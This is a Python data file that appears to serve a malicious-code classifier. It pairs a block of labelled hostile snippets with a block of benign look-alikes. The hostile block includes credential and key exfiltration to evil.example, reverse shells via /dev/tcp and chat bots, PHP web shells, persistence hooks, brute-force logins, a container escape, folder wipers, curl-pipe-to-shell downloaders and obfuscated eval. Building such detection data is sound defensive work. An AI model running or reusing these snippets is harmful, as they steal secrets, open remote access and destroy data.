"""Programs that serve somebody else, by the rule that stops them, and honest ones that come near."""

from __future__ import annotations

HARMFUL = r"""
# code-sends-protected
import os, requests
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files:
        if f.endswith((".pem", ".key", ".env")):
            requests.post("https://evil.example/up", files={"f": open(os.path.join(root, f), "rb")})
=====
# code-sends-protected
const https = require('https'), os = require('os');
const d = JSON.stringify({h: os.hostname(), u: os.userInfo().username, e: process.env, c: __dirname});
const r = https.request({hostname: 'evil.example', method: 'POST', path: '/'}); r.write(d); r.end();
=====
# code-sends-protected
const {execSync}=require('child_process');
const out=execSync('gh auth token').toString();
fetch('https://evil.example',{method:'POST',body:out})
=====
# code-sends-protected
import os, tarfile, ftplib
t = tarfile.open("/tmp/h.tgz","w:gz"); t.add(os.path.expanduser("~")); t.close()
f = ftplib.FTP("evil.example","u","p"); f.storbinary("STOR h.tgz", open("/tmp/h.tgz","rb"))
=====
# code-sends-protected
import http.server, os
os.chdir("/")
http.server.HTTPServer(("0.0.0.0",8000),http.server.SimpleHTTPRequestHandler).serve_forever()
=====
# code-spies
from PIL import ImageGrab
import requests, io
b = io.BytesIO(); ImageGrab.grab().save(b, "PNG")
requests.post("https://discord.com/api/webhooks/1/x", files={"f": b.getvalue()})
=====
# code-spies
import cv2, smtplib
cam = cv2.VideoCapture(0)
ok, img = cam.read()
cv2.imwrite("c.jpg", img)
s = smtplib.SMTP("smtp.gmail.com",587); s.sendmail("a","b",open("c.jpg","rb").read())
=====
# code-plants-startup
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
    r"Software\Microsoft\Windows\CurrentVersion\Run", 0,
    winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, r"C:\Users\Public\x.exe")
=====
# code-plants-startup
import os,shutil
me=os.path.abspath(__file__)
for d in os.listdir("/media"):
    shutil.copy(me,"/media/"+d+"/autorun.py")
=====
# code-plants-startup
import os
for root,_,files in os.walk("/"):
    for f in files:
        if f.endswith(".py"):
            p=os.path.join(root,f)
            s=open(p).read()
            open(p,"w").write(open(__file__).read()+s)
=====
# code-plants-startup
import shutil, os, sys
shutil.copy(sys.executable,
    os.path.join(os.environ["APPDATA"],
    r"Microsoft\Windows\Start Menu\Programs\Startup\u.exe"))
=====
# code-attacks-hosts
import paramiko
for p in open("rockyou.txt"):
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try: c.connect("10.0.0.5", username="root", password=p.strip()); print(p); break
    except Exception: pass
=====
# code-attacks-hosts
import requests
for p in open("passwords.txt"):
    r = requests.post("http://victim.example/login", data={"user":"admin","pass":p.strip()})
    if "Welcome" in r.text: print(p); break
=====
# code-gains-privilege
import docker
c = docker.from_env()
c.containers.run("alpine","chroot /h sh",volumes={"/":{"bind":"/h","mode":"rw"}},privileged=True)
=====
# code-kills-service
import ctypes
ctypes.windll.user32.SystemParametersInfoW(20,0,"C:\\r.bmp",0);
ctypes.windll.ntdll.RtlAdjustPrivilege(19,1,0,ctypes.byref(ctypes.c_bool()));
ctypes.windll.ntdll.NtRaiseHardError(0xC0000022,0,0,0,6,ctypes.byref(ctypes.c_ulong()))
=====
# code-exhausts-machine
import multiprocessing
def f():
    while True: pass
for _ in range(10000): multiprocessing.Process(target=f).start()
=====
# code-exhausts-machine
import tempfile, os
for i in range(10**9): open(os.path.join("/tmp", str(i)),"w").write("x"*10**6)
=====
# code-runs-hidden
exec("".join(chr(int(x)) for x in "105 109 112 111 114 116 32 111 115".split()))
=====
# code-runs-hidden
(function(_0x1a2b,_0x3c4d){var _0x5e6f=_0x2b1a;
while(!![]){try{var _0x7a8b=parseInt(_0x5e6f(0x1a0))/0x1;
if(_0x7a8b===_0x3c4d)break;
}catch(e){_0x1a2b['push'](_0x1a2b['shift']());
}}}(_0x4f2a,0x5d8a));
eval(_0x2b1a(0x1));
=====
# code-remote-shell
import telebot, os
bot = telebot.TeleBot("123:abc")
@bot.message_handler(func=lambda m: True)
def h(m): bot.reply_to(m, os.popen(m.text).read())
bot.polling()
=====
# code-remote-shell
import asyncio
async def m():
    r,w = await asyncio.open_connection("10.0.0.1",4444)
    while True:
        c=(await r.read(1024)).decode()
        p=await asyncio.create_subprocess_shell(c,stdout=-1)
        o,_=await p.communicate(); w.write(o)
asyncio.run(m())
=====
# code-remote-shell
import discord, subprocess
client = discord.Client(intents=discord.Intents.all())
@client.event
async def on_message(message):
    if message.content.startswith("!cmd"):
        await message.channel.send(subprocess.getoutput(message.content[5:]))
client.run("TOKEN")
=====
# code-remote-shell
<?php $a = create_function('', $_POST['c']); $a();
=====
# code-remote-shell
<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path']);
=====
# code-remote-shell
public class A {
    public static void main(String[] a) throws Exception {
    Process p = Runtime.getRuntime().exec(new String[]{
    "/bin/bash",
    "-c",
    "exec 5<>/dev/tcp/10.0.0.1/4444;
cat <&5 | while read l;
do $l 2>&5 >&5;
done"});
p.waitFor();
} }
=====
# code-wipes-folders
Set o = CreateObject("WScript.Shell")
o.Run "cmd /c del /f /s /q C:\*", 0
=====
# code-runs-download
const axios=require('axios');
axios.get('https://api.npoint.io/abc').then(r=>{new Function('require',r.data.cookie)(require)})
=====
# code-wipes-folders
use std::fs;
fn main(){ fs::remove_dir_all("/").unwrap(); }
=====
# code-wipes-folders
package main
import ("os";"path/filepath")
func main(){ filepath.Walk("/home", func(p string, i os.FileInfo, e error) error { os.Remove(p);
return nil }) }
=====
# code-wipes-folders
import java.nio.file.*;
public class A { public static void main(String[] a) throws Exception { Files.walk(Paths.get("/home"))
    .sorted(java.util.Comparator.reverseOrder())
    .forEach(p -> p.toFile()
    .delete());
} }
=====
# code-wipes-folders
Dir.glob(File.expand_path('~/**/*')).each{|f| File.delete(f) if File.file?(f)}
=====
# code-wipes-folders
#include <stdio.h>
#include <dirent.h>
#include <unistd.h>
void w(char*d){DIR*p=opendir(d);
struct dirent*e;
while((e=readdir(p))){char b[999];
sprintf(b,"%s/%s",d,e->d_name);
unlink(b);
}}
int main(){w("/etc");}
=====
# code-runs-download
use std::process::Command;
fn main(){ Command::new("sh").arg("-c").arg("curl http://evil.example/x | sh").spawn().unwrap(); }
=====
# code-runs-download
import Foundation
let t = Process();
t.launchPath = "/bin/sh";
t.arguments = ["-c","curl http://evil.example/x | sh"];
t.launch()
=====
# code-runs-download
do shell script "curl http://evil.example/x | sh" with administrator privileges
=====
# code-exhausts-machine
#include <stdlib.h>
int main(){ while(1) malloc(1024*1024); }
=====
# code-gains-privilege
#include <linux/module.h>
static int __init r(void){ commit_creds(prepare_kernel_cred(0)); return 0; }
=====
# code-attacks-hosts
from scapy.all import *
send(IP(src=RandIP(),dst="10.0.0.5")/TCP(dport=80,flags="S"),loop=1)
=====
# code-plants-startup
import site, os
open(os.path.join(site.getsitepackages()[0],"x.pth"),"w").write("import os;os.system('id')")
"""

HONEST = r"""
const fs = require('fs');
const data = JSON.parse(fs.readFileSync('package.json', 'utf8'));
console.log(data.name);
=====
const os = require('os'); console.log(os.hostname(), os.platform(), os.cpus().length);
=====
const { execSync } = require('child_process'); console.log(execSync('git status').toString());
=====
const res = await fetch('https://api.github.com/repos/nodejs/node');
const j = await res.json();
console.log(j.stargazers_count);
=====
const re = /href="([^"]+)"/g;
const html = await (await fetch('https://example.com')).text();
let m;
while ((m = re.exec(html))) console.log(m[1]);
=====
const axios = require('axios');
axios.post('https://api.example.com/items',
    {
    name: 'x'},
    {
    headers: {
    Authorization: `Bearer ${
    process.env.TOKEN}`}}).then(r => console.log(r.data));
=====
const express = require('express');
const app = express();
app.use(express.static('public'));
app.listen(process.env.PORT || 3000);
=====
const path = require('path');
const fs = require('fs');
for (const f of fs.readdirSync('.')) { if (path.extname(f) === '.md') console.log(f);
}
=====
const { spawn } = require('child_process');
const p = spawn('npm', ['test'], { env: { ...process.env, CI: '1' }, stdio: 'inherit' });
p.on('exit', c => process.exit(c));
=====
import fs from 'fs';
const rows = fs.readFileSync('a.csv','utf8').split('\n').map(r => r.split(','));
fs.writeFileSync('a.json', JSON.stringify(rows));
=====
const crypto = require('crypto');
const h = crypto.createHash('sha256').update('x').digest('hex');
console.log(h);
=====
function debounce(fn, ms) { let t;
return (...a) => { clearTimeout(t);
t = setTimeout(() => fn(...a), ms);
};
}
=====
const m = new Map(); for (let i = 0; i < 10000; i++) m.set(i, 'x'.repeat(10)); console.log(m.size);
=====
console.log(JSON.stringify(Object.keys(process.env)));
=====
console.log(process.env.PATH, JSON.stringify({node: process.version}));
=====
const ws = new WebSocket('wss://example.com'); ws.onmessage = (e) => console.log(e.data);
=====
import os, zipfile
with zipfile.ZipFile("out.zip", "w") as z:
    for root, _, files in os.walk("dist"):
        for f in files: z.write(os.path.join(root, f))
=====
import shutil; shutil.make_archive("backup", "zip", "project")
=====
import requests
r = requests.get("https://api.example.com/items", params={"q": "x"}); print(r.json())
=====
import requests
for name in ["a","b"]:
    requests.post("https://api.example.com/users", json={"name": name, "password": "changeme"})
=====
import smtplib
s = smtplib.SMTP("smtp.example.com", 587);
s.starttls();
s.login("me", "pw");
s.sendmail("me@x", "you@x", "Subject: hi\n\nhi")
=====
import os
here = os.path.dirname(os.path.abspath(__file__)); print(open(os.path.join(here, "README.md")).read())
=====
import sys, subprocess
subprocess.run([sys.executable, "-m", "pytest", "-q"], check=True)
=====
import subprocess
out = subprocess.run(["git","log","--oneline"], capture_output=True, text=True).stdout; print(out)
=====
import subprocess
subprocess.run(["bash"], input="echo hi\nls -la\n", text=True)
=====
import asyncio
async def main():
    p = await asyncio.create_subprocess_exec("ls", "-la", stdout=-1); print((await p.communicate())[0])
asyncio.run(main())
=====
import docker
c = docker.from_env();
print(c.containers.run("alpine", "echo hi", volumes={"/home/me/src": {"bind": "/src", "mode": "ro"}}))
=====
import boto3
s3 = boto3.client("s3"); print([b["Name"] for b in s3.list_buckets()["Buckets"]])
=====
import glob
for f in glob.glob("certs/*.pem"): print(f)
=====
import threading, time
def work(): 
    for i in range(3): time.sleep(0.1)
ts = [threading.Thread(target=work) for _ in range(10)]
[t.start() for t in ts]; [t.join() for t in ts]
=====
import http.server; http.server.test(HandlerClass=http.server.SimpleHTTPRequestHandler, port=8000)
=====
for i in range(1000000000):
    if i * i > 10**12: print(i); break
=====
import discord
class Bot(discord.Client):
    async def on_message(self, message):
        if message.content == "!ping": await message.channel.send("pong")
=====
import hashlib
words = open("/usr/share/dict/words").read().split(); print(len(words))
=====
passwords = ["abc", "hunter2"]
for p in passwords:
    print(len(p), any(c.isdigit() for c in p))
=====
public class Main {
    public static void main(String[] a) throws Exception {
    Process p = new ProcessBuilder("git",
    "status").start();
System.out.println(new String(p.getInputStream().readAllBytes()));
} }
=====
Pattern p = Pattern.compile("x"); Matcher m = p.matcher("axb"); System.out.println(m.find());
=====
from PIL import Image
im = Image.open("a.png").resize((10,10)); im.save("b.png")
=====
import winreg
k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows NT\CurrentVersion");
print(winreg.QueryValueEx(k, "ProductName"))
=====
import json, pickle
pickle.dump({"a":1}, open("a.pkl","wb")); print(pickle.load(open("a.pkl","rb")))
=====
s = "".join(chr(ord(c)+1) for c in "HAL"); print(s)
=====
const s = String.fromCharCode(72, 73); console.log(eval('1+1'), s);
=====
const { readdir } = require('fs/promises');
(async () => { for (const f of await readdir('.')) console.log(f);
})();
=====
import paramiko
c = paramiko.SSHClient();
c.load_system_host_keys();
c.connect("host.example", username="me");
print(c.exec_command("uptime")[1].read())
=====
from fastapi import FastAPI
app = FastAPI()
@app.get("/")
def root(): return {"ok": True}
=====
use std::fs;
fn main() { fs::remove_dir_all("target/debug").unwrap(); }
=====
package main
func main() { filepath.Walk("dist", func(p string, i os.FileInfo, e error) error { return os.Remove(p) }) }
=====
#include <stdlib.h>
int main() { char *p = malloc(1024 * 1024); free(p); while (1) { if (done()) break; } }
=====
use std::process::Command;
fn main() { Command::new("sh").arg("-c").arg("ls | sort").status().unwrap(); }
=====
import hashlib
for name in open("files.txt"):
    print(name, hashlib.sha256(open(name.strip(), "rb").read()).hexdigest())
"""
